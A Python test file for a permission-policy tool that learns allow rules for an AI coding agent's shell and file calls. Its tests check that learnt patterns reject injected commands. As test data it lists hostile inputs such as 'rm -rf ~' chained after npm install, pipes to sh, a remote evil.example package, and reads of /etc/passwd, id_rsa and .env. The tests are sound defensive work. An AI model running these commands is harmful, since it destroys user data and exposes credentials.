"""Rules learnt from decisions generalise, and never trust more than was shown."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from penstock.core.learning.clusters import (
    Cluster,
    clusters,
    command_regex,
    head_of,
    is_plain,
    path_glob,
    path_regex,
)
from penstock.core.learning.past_decision import Past, Person, past_of
from penstock.core.learning.risk import Risk, never, risk
from penstock.core.learning.suggest import (
    EXCLUDED,
    RulesFormat,
    Suggestion,
    draft,
    made_rule,
    suggest,
    with_rule,
)
from penstock.core.paths.globs import matches
from penstock.core.policy.model import Policy
from penstock.core.policy.regexes import re_escape, search
from penstock.core.rules.load import load, parse_policy

ORIGINAL = "[audit]\naudit_file = 'x'\n"


def policy(text: str = "", *, file: str = "penstock.toml") -> Policy:
    return parse_policy(text, file=file)


def ran(command: str, decision: str = "passthrough", **more: Any) -> Past:
    return Past(tool="Bash", tool_input={"command": command}, decision=decision, cwd="/p", **more)


def wrote(path: str, decision: str = "ask", **more: Any) -> Past:
    return Past(tool="Write", tool_input={"file_path": path}, path=path, decision=decision, **more)


def many(*commands: str, times: int = 3, **more: Any) -> list[Past]:
    return [ran(command, **more) for command in commands for _ in range(times)]


def regex_of(*commands: str) -> str:
    (cluster,) = clusters(many(*commands, times=1))
    return command_regex(cluster)


# --- clusters -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "head"),
    [
        ("ls", "ls"),
        ("ls -la src", "ls"),
        ("npm install left-pad", "npm install"),
        ("npm --version", "npm"),  # an option is no subcommand
        ("npm run build", "npm run build"),  # what a script does is in its name
        ("npm run", "npm run"),
        ("python -m pytest -q", "python -m pytest"),
        ("python -m", "python -m"),
        ("docker compose up", "docker compose up"),
        ("git commit", "git commit"),
        ("pytest tests/a.py", "pytest"),
    ],
)
def test_commands_are_put_together_by_what_they_do(command: str, head: str) -> None:
    assert " ".join(head_of(command)) == head


def test_a_cluster_is_shown_by_its_head_and_its_commonest_calls() -> None:
    found = clusters([*many("npm install a", "npm install b"), *many("git status", times=9)])
    assert [(one.pattern, one.count) for one in found] == [("git status", 9), ("npm install", 6)]
    assert found[1].examples == ["npm install a", "npm install b"]


def test_commands_that_need_a_shell_are_a_kind_of_their_own() -> None:
    (one,) = clusters([ran("cd x && npm test")])
    assert (one.kind, one.pattern) == ("compound", "cd")
    assert never(one)


def test_calls_about_nothing_are_in_no_cluster() -> None:
    assert clusters([Past(tool="WebSearch")]) == []


def test_many_operands_become_one_pattern_and_few_stay_themselves() -> None:
    few = regex_of("git checkout main", "git checkout dev")
    assert not search(few, "git checkout other")
    general = regex_of("npm install a", "npm install b", "npm install c")
    assert search(general, "npm install @scope/d")
    assert search(general, "npm install d e")


@pytest.mark.parametrize(
    "attack",
    [
        *("npm install a; rm -rf ~", "npm install a && rm -rf ~", "npm install a | sh"),
        *("npm install a\nrm -rf ~", "npm install a\rrm -rf ~", "npm install a > ~/.bashrc"),
        *("npm install $(rm -rf ~)", "npm install `rm -rf ~`", "npm install a & rm x"),
        *("npm install ../../evil", "npm install /etc/evil", "npm install ~/evil"),
        *("npm install https://evil.example/x.tgz", "npm install git+ssh://evil.example/x"),
        *("npm install --global a", "npm install --prefix / a", "npm install -g a"),
        *("npm installer", "npm  install a", " npm install a", "npm install a ", "npm install\ta"),
        *("npm install 'a b'", 'npm install "a"', "npm install a\\ b", "npm install a{b,c}"),
        *(
            "npm install a <x",
            "npm install *",
            "npm install a\n",
            "npm install a\x00b",
            "x npm install a",
        ),
    ],
)
def test_nothing_slips_through_what_was_learnt_from_good_calls(attack: str) -> None:
    regex = regex_of("npm install a", "npm install b", "npm install c --save-dev", "npm install d")
    assert search(regex, "npm install zork")
    assert search(regex, "npm install zork --save-dev")
    assert not search(regex, attack)


WORD = st.from_regex(re.compile(r"[A-Za-z0-9_./:@%+,=-]{1,8}"), fullmatch=True)
COMMAND = st.lists(WORD, min_size=1, max_size=5).map(" ".join)
BREAKING = st.sampled_from(
    [";", "\n", "|", "&", ">", "<", "`", "$", "'", '"', "(", "\\", "\t", "*"]
)


@given(calls=st.lists(COMMAND, min_size=1, max_size=6), more=st.text(max_size=5), sign=BREAKING)
@settings(deadline=None, max_examples=200)
def test_a_pattern_meets_its_calls_and_none_with_a_sign_of_the_shell(
    calls: list[str], more: str, sign: str
) -> None:
    for cluster in clusters(ran(call) for call in calls):
        regex = command_regex(cluster)
        for call in cluster.calls:
            assert search(regex, call)
            assert not search(regex, f"{call}{sign}{more}")
            assert not search(regex, f"{sign}{call}")


@given(text=st.text(max_size=12))
@settings(deadline=None)
def test_an_escaped_text_is_met_by_itself_alone(text: str) -> None:
    plain = text.encode("utf-8", "replace").decode().replace("\0", "")
    assert search(f"^{re_escape(plain)}$", plain)
    assert not search(f"^{re_escape(plain)}$", f"{plain}x")


def test_paths_are_put_together_by_place_and_ending() -> None:
    (one,) = clusters([wrote("src/a/x.py"), wrote("src/a/y.py")])
    assert path_glob(one) == "src/a/*.py"
    one.calls["src/a/b/z.py"] += 1
    assert path_glob(one) == "src/a/**/*.py"
    assert all(matches(path_glob(one), path) for path in one.calls)
    assert [c.pattern for c in clusters([wrote("README")])] == ["*"]


def test_a_pattern_for_whole_paths_never_goes_up() -> None:
    cluster = Cluster("Read", "path", ("", "p", "src"), ".py")
    cluster.calls.update(["/p/src/a.py", "/p/src/b/c.py"])
    regex = path_regex(cluster)
    assert all(search(regex, path) for path in cluster.calls)
    for path in (
        "/p/src/../.env.py",
        "/p/src/.hidden.py",
        "/p/srcx/a.py",
        "/p/src/a.py\n",
        "/p/src/a.pyc",
    ):
        assert not search(regex, path), path


# --- what must never be suggested -----------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        *(
            "rm -rf build",
            "rm a",
            "sudo ls",
            "curl https://x.example",
            "wget x",
            "bash run",
            "sh x",
        ),
        *(
            "python x.py",
            "node x.js",
            "chmod 777 x",
            "dd if=a of=b",
            "git push",
            "git push origin a",
        ),
        *("git reset x", "npm publish", "npm exec x", "npx x", "docker run x", "kubectl apply x"),
        *("env x", "xargs x", "find x", "ssh host", "/bin/rm x", "./deploy", "npm run deploy"),
        *(
            "git commit --amend",
            "npm install -g x",
            "npm install --prefix x",
            "cat .env",
            "cat a/id_rsa",
        ),
        *("cat /etc/passwd", "cat ../x", "ls ~", "cat secrets/x", "make install", "cargo publish"),
        *("penstock approve x", "decision_reviewer apply", "kill 1", "systemctl stop x", "A=1 ls"),
        *("npm install https://x.example/a", "cat x.pem", "cp a b", "tee x", "sed x", "perl x"),
    ],
)
def test_dangerous_commands_are_never_suggested(command: str) -> None:
    assert suggest(many(command, times=9), policy()) == []
    (cluster,) = clusters([ran(command)])
    assert never(cluster)
    assert risk(cluster) is Risk.HIGH


PROTECTED = ".env a/.env.local secrets/x .git/config x/k.pem penstock.toml .claude/x run.sh ../x"


@pytest.mark.parametrize("path", PROTECTED.split())
def test_protected_names_are_never_suggested(path: str) -> None:
    ask = policy('[defaults]\nwrite = "ask"\n')
    assert suggest([wrote(path)] * 9, ask) == []


def test_files_at_the_top_have_no_place_to_generalise_to() -> None:
    ask = policy('[defaults]\nwrite = "ask"\n')
    assert suggest([wrote("notes.txt")] * 9, ask) == []


# --- suggestions ----------------------------------------------------------------------------------


def one(found: list[Suggestion]) -> Suggestion:
    (only,) = found
    return only


def test_a_suggestion_tells_its_support_its_flips_and_its_risk() -> None:
    past = [
        *(
            ran(f"npm install p{n}", "ask", session=f"s{n % 2}", ts=f"2025-01-0{n + 1}")
            for n in range(4)
        ),
        *many("npm install"),
        ran("npm install q", "deny", key="k1"),
        Past(tool="Bash", tool_input={"command": "npm install q"}, decision="allow",
             person=Person.APPROVED, key="k1"),
        *many("cargo test", decision="allow"),
    ]  # fmt: skip
    found = one(suggest(past, policy('[defaults]\nrun = "ask"\n')))
    assert found.pattern == "npm install"
    assert found.risk is Risk.MEDIUM
    support = found.support.document()
    assert (support["asks"], support["passthroughs"], support["denials_overruled"]) == (4, 3, 1)
    assert (support["total"], support["sessions"]) == (8, 2)
    assert (support["first_seen"], support["last_seen"]) == ("2025-01-01", "2025-01-04")
    assert found.impact.moves == {"ask_to_allow": 8}
    assert found.operation("/x/penstock.toml")["rule"] == dict(found.rule)


def test_what_came_too_seldom_is_not_suggested() -> None:
    assert suggest(many("npm test", times=2), policy()) == []
    assert len(suggest(many("npm test", times=2), policy(), least=2)) == 1


def test_what_a_rule_allows_already_or_denies_anyway_is_not_suggested() -> None:
    allowed = '[[allow]]\nid = "a"\ntool = "Bash"\ncommand_regex = "^npm test"\n'
    assert suggest(many("npm test"), policy(allowed)) == []
    denied = allowed.replace("allow", "deny")
    assert suggest(many("npm test"), policy(denied)) == []


def test_nothing_is_suggested_that_a_person_refused() -> None:
    ask = policy('[defaults]\nwrite = "ask"\n')
    asked = [wrote(f"src/{name}.py") for name in "abcd"]
    assert one(suggest(asked, ask)).rule["paths"] == ["src/*.py"]
    no = Past(tool="Write", path="src/b.py", decision="deny", person=Person.REJECTED)
    assert suggest([*asked, no], ask) == []
    # Neither where the refused file was never asked about again, but the rule would meet it.
    other = Past(tool="Write", path="src/zz.py", decision="deny", person=Person.REJECTED)
    assert suggest([*asked, other], ask) == []
    elsewhere = Past(tool="Write", path="docs/zz.md", decision="deny", person=Person.REJECTED)
    assert len(suggest([*asked, elsewhere], ask)) == 1


def test_a_denial_that_nobody_overruled_stays_one() -> None:
    assert suggest(many("npm test", decision="deny", rules=("strict",)), policy()) == []


def test_what_only_a_default_denied_may_be_learnt() -> None:
    past = many("npm test", decision="deny", rules=("default.run",))
    found = one(suggest(past, policy('[defaults]\nrun = "deny"\n')))
    assert found.support.by_default == 3
    assert found.impact.moves == {"deny_to_allow": 3}


def test_what_is_cut_or_holds_a_secret_is_not_learnt() -> None:
    cut = [past for past in many("npm test") if past.whole]
    assert len(suggest(cut, policy())) == 1
    gone = past_of({"op": "tool_call", "status": "hitl_required", "tool": "Bash", "path": "",
                    "command": "npm test [redacted]"})  # fmt: skip
    assert gone is not None
    assert suggest([gone] * 9, policy()) == []


def test_a_secret_never_gets_into_a_rule_and_a_word_that_sounds_like_one_does_no_harm() -> None:
    past = [*many("npm test"), *many("npm test --token=abcdefgh12345678")]
    assert "abcdefgh12345678" not in str(suggest(past, policy()))
    harmless = suggest(many("pytest tests/test_token.py"), policy())
    assert [found.pattern for found in harmless] == ["pytest"]


def test_only_one_tool_may_be_asked_about_and_names_stay_apart() -> None:
    past = [*many("npm test"), *(wrote(f"src/{n}.py") for n in "abc")]
    text = '[defaults]\nwrite = "ask"\n[[deny]]\nid = "allow-npm-test"\npaths = ["x"]\n'
    assert [s.pattern for s in suggest(past, policy(text), tool="Write")] == ["src/*.py"]
    found = one(suggest(past, policy(text), tool="Bash"))
    assert found.rule["id"] == "allow-npm-test-2"


@pytest.mark.parametrize("form", list(RulesFormat))
def test_a_suggested_rule_loads_in_the_format_it_is_for(form: RulesFormat) -> None:
    file = "penstock.toml" if form is RulesFormat.PENSTOCK else "claude-code-permissions-hook.toml"
    base = policy("" if form is RulesFormat.PENSTOCK else ORIGINAL, file=file)
    found = one(suggest([ran(f"npm install p{n}") for n in range(4)], base, form=form))
    stored = "match" in found.rule
    assert stored is (
        form is RulesFormat.PENSTOCK
    )  # the original's format has no room for examples
    assert found.match
    assert "npm install p0\nrm -rf ~" in found.not_match
    assert found.rule["command_exclude_regex"] == EXCLUDED


def test_paths_of_the_originals_log_become_rules_of_either_kind() -> None:
    past = [
        replace(ran(""), tool="Read", tool_input={"file_path": f"/p/src/{n}.py"}) for n in "abcd"
    ]
    original = policy(ORIGINAL, file="claude-code-permissions-hook.toml")
    flat = one(suggest(past, original, form=RulesFormat.FLAT))
    assert flat.rule["file_path_regex"] == r"^/p/src/[A-Za-z0-9_@%+=-][A-Za-z0-9_@%+=.-]*\.py$"
    ours = one(suggest(past, policy(), form=RulesFormat.PENSTOCK))
    assert (ours.rule["paths"], ours.rule["actions"]) == (["src/*.py"], ["read"])
    assert ours.risk is Risk.LOW
    # Our own record knows paths from the project on, which the original never sees.
    own = [wrote(f"src/{n}.py", "passthrough") for n in "abcd"]
    assert suggest(own, original, form=RulesFormat.FLAT) == []


def test_a_draft_that_does_not_hold_its_examples_is_no_rule() -> None:
    (cluster,) = clusters(many("npm install a", "npm install b", "npm install c"))
    good = draft(cluster, RulesFormat.PENSTOCK, ())
    assert made_rule(good, RulesFormat.PENSTOCK) is not None
    for key, value in (("command_regex", "^npm"), ("command_regex", "("), ("command_regex", "^x$")):
        rule = {**good.rule, key: value}
        if value == "^npm":
            rule["command_exclude_regex"] = "zork"
        bad = type(good)(rule=rule, match=good.match, not_match=good.not_match)
        assert made_rule(bad, RulesFormat.PENSTOCK) is None
        assert made_rule(bad, RulesFormat.FLAT) is None


def test_a_rule_is_added_to_the_level_that_a_person_edits() -> None:
    base = policy()
    (cluster,) = clusters(many("npm test"))
    rule = made_rule(draft(cluster, RulesFormat.PENSTOCK, ()), RulesFormat.PENSTOCK)
    assert rule is not None
    more = with_rule(base, rule)
    assert more.layers[0].rules[-1].id == "allow-npm-test"
    assert more.layers[1:] == base.layers[1:]
    assert load("penstock.toml", {"penstock.toml": b""}.get).ok


def test_plain_commands_are_short() -> None:
    assert is_plain("ls")
    assert not is_plain("ls " + "x" * 1000)
